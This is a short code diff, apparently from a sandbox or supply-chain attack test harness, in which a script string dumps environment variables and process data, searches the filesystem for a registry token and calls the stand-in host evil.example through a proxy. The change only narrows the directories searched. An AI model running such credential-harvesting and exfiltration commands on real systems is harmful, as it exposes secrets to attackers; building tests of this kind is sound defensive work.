@@ -139,7 +139,7 @@ async function reachHosts(environment: AttackEnvironment): Promise<AttackResult>
 /** Looks for the token, asks the mirror for it, and sends what it has to another host. */
 const FIND_TOKEN = `import { execSync } from "node:child_process";
   execSync("(env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\\\0' '\\\\n';" +
-    " grep -rs ${REGISTRY_TOKEN} / --exclude-dir=proc --exclude-dir=sys --exclude=attack.mjs; curl -sx http://127.0.0.1:3128 -H 'x: y' http://packages.invalid/@acme/tool;" +
+    " grep -rs ${REGISTRY_TOKEN} /build /scratch /tmp /run /etc /root --exclude=attack.mjs; curl -sx http://127.0.0.1:3128 -H 'x: y' http://packages.invalid/@acme/tool;" +
     " curl -skx http://127.0.0.1:3128 https://evil.example/) >/build/found.txt 2>&1; true");`;
 
 const ACME = { url: "https://npm.acme.example/", scope: "@acme", token: REGISTRY_TOKEN };
